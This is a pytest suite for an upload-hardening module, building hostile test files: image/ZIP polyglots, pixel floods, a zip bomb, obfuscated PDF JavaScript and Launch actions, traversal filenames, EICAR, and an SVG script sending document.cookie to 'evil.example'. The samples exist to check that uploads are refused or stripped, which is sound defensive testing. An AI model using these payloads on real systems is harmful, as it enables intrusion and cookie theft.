"""Hardened uploads against a corpus of hostile files, all made here: polyglots, lying names,
metadata-laden photos, pixel floods, archives and bombs, active PDFs, a fake and a missing clamd."""

from __future__ import annotations

import gzip
import io
import socket
import socketserver
import struct
import tarfile
import tempfile
import threading
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageCms, ImageFile, PngImagePlugin, features
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from safepassage.core.errors import InvalidInputError
from safepassage.protection.uploads import (
    MAX_IMAGE_PIXELS,
    CleanUpload,
    UploadRejectedError,
    clean_upload,
    scan_for_malware,
)

MAX_BYTES = 20 * 1024 * 1024
GPS_IFD = 0x8825
ORIENTATION = 0x0112
IMAGE_DESCRIPTION = 0x010E
SECRET = "SAFEHOUSE-KARTE-SEH"


def _clean(content: bytes, name: str = "upload.bin", max_bytes: int = MAX_BYTES) -> CleanUpload:
    return clean_upload(content=content, original_name=name, max_bytes=max_bytes)


def _rejection(content: bytes, name: str = "upload.bin", max_bytes: int = MAX_BYTES) -> str:
    with pytest.raises(UploadRejectedError) as caught:
        _clean(content, name, max_bytes)
    return caught.value.reason


# --- corpus builders ----------------------------------------------------------------------


def _image(fmt: str, size: tuple[int, int] = (40, 20), mode: str = "RGB", **options: Any) -> bytes:
    image = Image.new(mode, size, "red" if mode in ("RGB", "RGBA") else 128)
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header_only(width: int, height: int) -> bytes:
    """A valid PNG header claiming huge dimensions, with one scanline of pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def _pdf(*objects: bytes, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF: object 1 is the catalog, objects are numbered from 1 in order."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
_TEXT = b"BT /F1 12 Tf 72 712 Td (Case file) Tj ET"
CONTENTS = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_TEXT), _TEXT)


def _simple_pdf(catalog_extra: bytes = b"", page: bytes = PAGE, *more: bytes) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return _pdf(catalog, PAGES, page, CONTENTS, *more)


def _pdf_with_object_stream(*objects: bytes) -> bytes:
    """A PDF 1.5 whose objects all sit in one compressed object stream, found by an xref stream.

    pypdf's writer does not write object streams, so this is built by hand.
    """
    count = len(objects)
    header_parts, body = [], bytearray()
    for number, text in enumerate(objects, start=1):
        header_parts.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    header = b" ".join(header_parts) + b"\n"
    packed = zlib.compress(header + bytes(body))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        count + 1,
        count,
        len(header),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, count + 1, index) for index in range(count)]
    rows += [struct.pack(">BIH", 1, stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (count + 2, count + 2)
    out += b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


OBJSTM_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def _pypdf_document(build: Any = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    if build is not None:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _jpeg_segments(content: bytes) -> list[int]:
    """Marker codes of a JPEG's segments up to the start of the scan."""
    markers, position = [], 2
    while position < len(content):
        marker = content[position + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        (length,) = struct.unpack(">H", content[position + 2 : position + 4])
        position += 2 + length
    return markers


def _exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[IMAGE_DESCRIPTION] = SECRET
    exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (34.0, 31.0, 42.0)
    gps[3] = "E"
    gps[4] = (69.0, 10.0, 51.0)
    return exif


# --- images -------------------------------------------------------------------------------


def test_a_jpeg_is_re_encoded_and_named_by_its_content() -> None:
    upload = _clean(_image("JPEG"), "passport scan.JPEG")

    assert upload.content_type == "image/jpeg"
    assert upload.extension == "jpg"
    assert upload.safe_name == "passport scan.jpg"
    with Image.open(io.BytesIO(upload.content)) as stored:
        assert stored.format == "JPEG"
        assert stored.size == (40, 20)


def test_a_jpeg_with_gps_exif_comes_out_without_any_metadata() -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = _image(
        "JPEG",
        exif=_exif_with_gps(),
        comment=SECRET.encode(),
        icc_profile=srgb,
        xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET.encode() + b"</x:xmpmeta>",
    )
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(GPS_IFD)[2] == (34.0, 31.0, 42.0)
    assert original.count(SECRET.encode()) >= 3

    stored = _clean(original, "IMG_0001.jpg").content

    assert SECRET.encode() not in stored
    assert b"Exif" not in stored
    assert b"GPS" not in stored
    assert b"xmpmeta" not in stored
    assert set(_jpeg_segments(stored)) <= {0xE0, 0xDB, 0xC0, 0xC4, 0xDA}  # JFIF, tables, frame
    with Image.open(io.BytesIO(stored)) as after:
        assert len(after.getexif()) == 0
        assert not {"exif", "icc_profile", "xmp", "comment"} & set(after.info)


def test_exif_orientation_is_applied_before_the_metadata_is_dropped() -> None:
    sideways = _image("JPEG", size=(40, 20), exif=_exif_with_gps(orientation=6))

    stored = _clean(sideways, "photo.jpg").content

    with Image.open(io.BytesIO(stored)) as upright:
        assert upright.size == (20, 40)
        assert ORIENTATION not in upright.getexif()


def test_a_polyglot_jpeg_with_a_zip_appended_loses_the_zip() -> None:
    payload = _zip({"evil.html": b"<script>alert(1)</script>"})
    polyglot = _image("JPEG") + payload
    assert zipfile.is_zipfile(io.BytesIO(polyglot))

    upload = _clean(polyglot, "photo.jpg")

    assert upload.content_type == "image/jpeg"
    assert b"PK\x03\x04" not in upload.content
    assert b"PK\x05\x06" not in upload.content
    assert not zipfile.is_zipfile(io.BytesIO(upload.content))


def test_a_gifar_becomes_a_plain_png_without_the_java_archive() -> None:
    jar = _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "Evil.class": b"\xca\xfe"})
    gifar = _image("GIF", mode="P") + jar

    upload = _clean(gifar, "avatar.gif")

    assert (upload.content_type, upload.extension, upload.safe_name) == (
        "image/png",
        "png",
        "avatar.png",
    )
    assert b"PK\x03\x04" not in upload.content
    assert upload.content.startswith(b"\x89PNG\r\n\x1a\n")


def test_a_png_named_pdf_is_stored_as_a_png() -> None:
    upload = _clean(_image("PNG"), "x.pdf")

    assert (upload.content_type, upload.extension, upload.safe_name) == (
        "image/png",
        "png",
        "x.png",
    )


def test_png_text_chunks_are_dropped_and_transparency_is_kept() -> None:
    text = PngImagePlugin.PngInfo()
    text.add_text("GPS", SECRET)
    text.add_itxt("Comment", SECRET, zip=True)
    original = _image("PNG", mode="RGBA", pnginfo=text)

    stored = _clean(original, "map.png").content

    assert SECRET.encode() not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.mode == "RGBA"
        assert not image.text  # type: ignore[attr-defined]


def test_a_cmyk_jpeg_is_stored_as_rgb() -> None:
    upload = _clean(_image("JPEG", mode="CMYK"), "scan.jpg")

    with Image.open(io.BytesIO(upload.content)) as stored:
        assert stored.mode == "RGB"


@pytest.mark.skipif(not features.check("webp"), reason="Pillow built without WebP")
def test_a_webp_stays_webp_without_metadata() -> None:
    original = _image("WEBP", exif=_exif_with_gps().tobytes(), lossless=True)
    assert SECRET.encode() in original

    upload = _clean(original, "photo.webp")

    assert (upload.content_type, upload.extension) == ("image/webp", "webp")
    assert upload.content[:4] == b"RIFF"
    assert upload.content[8:12] == b"WEBP"
    assert SECRET.encode() not in upload.content
    assert b"EXIF" not in upload.content


def test_a_heic_without_a_heif_decoder_is_refused_as_unknown_type() -> None:
    Image.init()
    if "HEIF" in Image.OPEN:
        pytest.skip("a HEIF plugin is installed here")
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64

    assert _rejection(heic, "IMG_1234.HEIC") == "unknown_type"


def test_a_png_header_claiming_50k_by_50k_pixels_is_refused_before_any_pixel_is_decoded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def no_decoding(self: Any) -> None:
        raise AssertionError("pixels must not be decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    flood = _png_header_only(50_000, 50_000)
    assert len(flood) < 200

    assert _rejection(flood, "tiny.png") == "image_too_large"


def test_an_image_just_over_the_pixel_limit_is_refused() -> None:
    width = 8_000
    height = MAX_IMAGE_PIXELS // width + 1

    assert _rejection(_png_header_only(width, height), "big.png") == "image_too_large"


def test_a_truncated_jpeg_is_refused_as_unreadable() -> None:
    whole = _image("JPEG", size=(400, 300))

    assert _rejection(whole[: len(whole) // 2], "cut.jpg") == "image_unreadable"


def test_a_jpeg_signature_followed_by_garbage_is_refused_as_unreadable() -> None:
    assert _rejection(b"\xff\xd8\xff\xe0" + b"\x00garbage" * 50, "x.jpg") == "image_unreadable"


# --- what is not a document ---------------------------------------------------------------


def test_an_executable_named_photo_jpg_is_refused() -> None:
    executable = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200

    assert _rejection(executable, "photo.jpg") == "unknown_type"


def test_an_elf_binary_is_refused() -> None:
    assert _rejection(b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "scan.pdf") == "unknown_type"


def test_an_svg_with_a_script_is_refused() -> None:
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
    )

    assert _rejection(svg, "logo.svg") == "unknown_type"
    assert _rejection(svg, "logo.png") == "unknown_type"


def test_html_is_refused() -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

    assert _rejection(html, "letter.jpg") == "unknown_type"


def test_an_office_document_is_refused_as_unknown_type() -> None:
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})

    assert _rejection(docx, "letter.docx") == "unknown_type"


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("passport.jpg")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"abc"))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("zip", _zip({"passport.jpg": b"\xff\xd8\xff"})),
        ("rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64),
        ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64),
        ("gzip", gzip.compress(b"hello" * 100, mtime=0)),
        ("tar", _tar()),
        ("bzip2", b"BZh91AY&SY" + b"\x00" * 64),
        ("xz", b"\xfd7zXZ\x00" + b"\x00" * 64),
    ],
)
def test_archives_are_refused_unopened(kind: str, content: bytes) -> None:
    assert _rejection(content, f"documents.{kind}") == "archive"


def test_a_zip_bomb_is_refused_as_an_archive_without_being_expanded() -> None:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as entry,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(200):
            entry.write(block)
    bomb = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.infolist()[0].file_size == 200 * 1024 * 1024
    assert len(bomb) < 1024 * 1024

    assert _rejection(bomb, "photos.jpg") == "archive"


# --- sizes --------------------------------------------------------------------------------


def test_an_empty_file_is_refused() -> None:
    assert _rejection(b"", "empty.pdf") == "empty"


def test_a_file_over_the_limit_is_refused() -> None:
    content = _image("PNG")

    assert _rejection(content, "x.png", max_bytes=len(content) - 1) == "too_large"
    assert _clean(content, "x.png", max_bytes=len(content)).extension == "png"


# --- names --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("original_name", "safe_name"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("..\\..\\boot.ini", "boot.jpg"),
        ("C:\\Users\\fatima\\Desktop\\تذکره.jpeg", "تذکره.jpg"),
        ("photo\u202egpj.exe", "photogpj.jpg"),
        ("\u2067invoice\u2069.exe", "invoice.jpg"),
        ("line\nbreak\x00.jpg", "linebreak.jpg"),
        ("..", "document.jpg"),
        ("", "document.jpg"),
    ],
)
def test_the_display_name_is_a_plain_basename_with_the_extension_of_the_content(
    original_name: str, safe_name: str
) -> None:
    assert _clean(_image("JPEG"), original_name).safe_name == safe_name


def test_the_display_name_is_at_most_120_characters() -> None:
    name = _clean(_image("JPEG"), "ب" * 500 + ".jpg").safe_name

    assert len(name) == 120
    assert name.endswith(".jpg")


# --- PDFs ---------------------------------------------------------------------------------


def test_a_clean_simple_pdf_is_accepted_unchanged() -> None:
    pdf = _simple_pdf()

    upload = _clean(pdf, "letter.PDF")

    assert upload.content == pdf
    assert (upload.content_type, upload.extension, upload.safe_name) == (
        "application/pdf",
        "pdf",
        "letter.pdf",
    )


def test_a_pdf_written_by_pypdf_is_accepted() -> None:
    assert _clean(_pypdf_document(), "blank.pdf").content_type == "application/pdf"


def test_a_pdf_with_a_web_link_and_an_open_action_showing_a_page_is_accepted() -> None:
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] "
        b"/A << /S /URI /URI (https://example.org/) >> >>"
    )
    page = PAGE[:-2] + b" /Annots [5 0 R] >>"
    pdf = _simple_pdf(b"/OpenAction [3 0 R /Fit]", page, link)

    assert _clean(pdf, "links.pdf").content == pdf


@pytest.mark.parametrize(
    "catalog_extra",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        b"/#4Fpen#41ction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>",
        b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/OpenAction << /S /URI /URI (https://tracker.example/opened) >>",
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://t.example/) >> >>",
        b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"/AcroForm << /XFA 5 0 R /Fields [] >>",
        b"/AA << /WC << /S /SubmitForm /F (https://evil.example/) >> >>",
        b"/OpenAction << /S /ImportData /F (data.fdf) >>",
        b"/Names << /EmbeddedFiles << /Names [] >> >>",
    ],
    ids=[
        "javascript",
        "hash-escaped-javascript",
        "fully-hash-escaped",
        "names-tree-javascript",
        "launch",
        "open-action-uri",
        "open-action-goto-then-uri",
        "goto-remote-share",
        "xfa",
        "additional-actions-submit-form",
        "import-data",
        "embedded-files",
    ],
)
def test_a_pdf_with_active_content_is_refused(catalog_extra: bytes) -> None:
    pdf = _simple_pdf(catalog_extra, PAGE, b"<< /Length 0 >>\nstream\n\nendstream")

    assert _rejection(pdf, "form.pdf") == "pdf_active_content"


def test_a_pdf_page_with_additional_actions_is_refused() -> None:
    page = PAGE[:-2] + b" /AA << /O << /S /JavaScript /JS (1) >> >> >>"

    assert _rejection(_simple_pdf(b"", page), "page.pdf") == "pdf_active_content"


def _add_script_on_open(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )


def test_a_pdf_with_javascript_added_by_pypdf_is_refused() -> None:
    pdf = _pypdf_document(_add_script_on_open)

    assert _rejection(pdf, "script.pdf") == "pdf_active_content"


def test_a_pdf_with_an_embedded_zip_is_refused() -> None:
    payload = _zip({"evil.exe": b"MZ"})
    pdf = _pypdf_document(lambda writer: writer.add_attachment("photos.zip", payload))

    assert _rejection(pdf, "attached.pdf") == "pdf_active_content"


def test_a_pdf_with_javascript_hidden_in_a_compressed_object_stream_is_refused() -> None:
    pdf = _pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        OBJSTM_PAGE,
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )
    assert b"JavaScript" not in pdf
    assert b"OpenAction" not in pdf
    assert len(PdfReader(io.BytesIO(pdf)).pages) == 1  # a valid PDF, not a parse failure

    assert _rejection(pdf, "hidden.pdf") == "pdf_active_content"


def test_a_clean_pdf_with_object_streams_is_accepted() -> None:
    pdf = _pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        OBJSTM_PAGE,
    )

    assert _clean(pdf, "modern.pdf").content == pdf


def test_a_pdf_that_is_also_a_zip_is_refused() -> None:
    polyglot = _simple_pdf() + _zip({"evil.html": b"<script>alert(1)</script>"})
    assert zipfile.is_zipfile(io.BytesIO(polyglot))

    assert _rejection(polyglot, "both.pdf") == "archive"


def test_a_malformed_pdf_is_refused() -> None:
    assert _rejection(b"%PDF-1.7\n" + b"this is not a pdf " * 50, "broken.pdf") == (
        "pdf_unreadable"
    )


def test_a_password_protected_pdf_is_refused_because_it_cannot_be_checked() -> None:
    pdf = _pypdf_document(lambda writer: writer.encrypt("secret", algorithm="AES-256"))

    assert _rejection(pdf, "locked.pdf") == "pdf_unreadable"


def test_a_pdf_encrypted_without_a_user_password_is_checked_and_accepted() -> None:
    pdf = _pypdf_document(
        lambda writer: writer.encrypt("", owner_password="owner", algorithm="AES-256")
    )

    assert _clean(pdf, "restricted.pdf").content == pdf


def test_a_pdf_must_start_with_its_signature() -> None:
    assert _rejection(b"\n\n" + _simple_pdf(), "late.pdf") == "unknown_type"


# --- the error ----------------------------------------------------------------------------


def test_the_rejection_is_an_invalid_input_error_that_never_repeats_the_file_name() -> None:
    with pytest.raises(UploadRejectedError) as caught:
        _clean(b"MZ" + b"\x00" * 100, "tazkira-ahmad-karimi.exe")

    error = caught.value
    assert isinstance(error, InvalidInputError)
    assert error.code == "upload_rejected"
    assert error.status == 422
    assert "ahmad" not in str(error).lower()
    assert "MZ" not in str(error)


# --- malware scanning ---------------------------------------------------------------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class _FakeClamd(socketserver.UnixStreamServer):
    """Speaks clamd's INSTREAM protocol and records what it was sent."""

    def __init__(self, path: str, reply: bytes | None) -> None:
        self.reply = reply  # None: judge by the EICAR test string
        self.received: list[bytes] = []
        super().__init__(path, _FakeClamdHandler)


class _FakeClamdHandler(socketserver.StreamRequestHandler):
    server: _FakeClamd

    def handle(self) -> None:
        assert self.rfile.read(10) == b"zINSTREAM\0"
        data = bytearray()
        while True:
            (length,) = struct.unpack("!I", self.rfile.read(4))
            if length == 0:
                break
            assert length <= 64 * 1024
            data += self.rfile.read(length)
        self.server.received.append(bytes(data))
        reply = self.server.reply
        if reply is None:
            reply = b"stream: Eicar-Test-Signature FOUND" if EICAR in data else b"stream: OK"
        self.wfile.write(reply + b"\0")


@pytest.fixture
def short_tmp() -> Iterator[Path]:
    # Unix socket paths are limited to about 100 bytes; pytest's tmp_path can be longer.
    with tempfile.TemporaryDirectory(prefix="clamd") as directory:
        yield Path(directory)


def _serve_clamd(path: Path, reply: bytes | None = None) -> _FakeClamd:
    server = _FakeClamd(str(path), reply)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def fake_clamd(settings: Any, short_tmp: Path) -> Iterator[_FakeClamd]:
    server = _serve_clamd(short_tmp / "clamd.sock")
    settings.CLAMAV_SOCKET = str(short_tmp / "clamd.sock")
    settings.CLAMAV_TIMEOUT_SECONDS = 5
    yield server
    server.shutdown()
    server.server_close()


def test_without_a_configured_scanner_nothing_is_scanned(settings: Any) -> None:
    settings.CLAMAV_SOCKET = ""
    settings.CLAMAV_HOST = ""

    scan_for_malware(EICAR)


def test_a_configured_scanner_that_does_not_exist_fails_closed(
    settings: Any, short_tmp: Path
) -> None:
    settings.CLAMAV_SOCKET = str(short_tmp / "no-such-clamd.sock")

    with pytest.raises(UploadRejectedError) as caught:
        scan_for_malware(b"harmless")
    assert caught.value.reason == "scan_unavailable"
    assert _rejection(_image("PNG"), "x.png") == "scan_unavailable"


def test_a_configured_scanner_on_a_closed_port_fails_closed(settings: Any) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        closed_port = probe.getsockname()[1]
    settings.CLAMAV_SOCKET = ""
    settings.CLAMAV_HOST = "127.0.0.1"
    settings.CLAMAV_PORT = closed_port

    with pytest.raises(UploadRejectedError) as caught:
        scan_for_malware(b"harmless")
    assert caught.value.reason == "scan_unavailable"
    assert caught.value.status == 503


def test_a_clean_file_passes_the_scanner_in_chunks(fake_clamd: _FakeClamd) -> None:
    content = bytes(range(256)) * 1000  # several 64 KiB chunks

    scan_for_malware(content)

    assert fake_clamd.received == [content]


def test_a_file_the_scanner_flags_is_refused_as_malware(fake_clamd: _FakeClamd) -> None:
    with pytest.raises(UploadRejectedError) as caught:
        scan_for_malware(EICAR)
    assert caught.value.reason == "malware"


def test_an_upload_is_scanned_before_it_is_accepted(fake_clamd: _FakeClamd) -> None:
    pdf = _simple_pdf()

    _clean(pdf, "letter.pdf")

    assert fake_clamd.received == [pdf]


def test_a_scanner_error_reply_fails_closed(settings: Any, short_tmp: Path) -> None:
    server = _serve_clamd(short_tmp / "clamd.sock", b"INSTREAM size limit exceeded. ERROR")
    settings.CLAMAV_SOCKET = str(short_tmp / "clamd.sock")
    try:
        with pytest.raises(UploadRejectedError) as caught:
            scan_for_malware(b"harmless")
    finally:
        server.shutdown()
        server.server_close()
    assert caught.value.reason == "scan_unavailable"
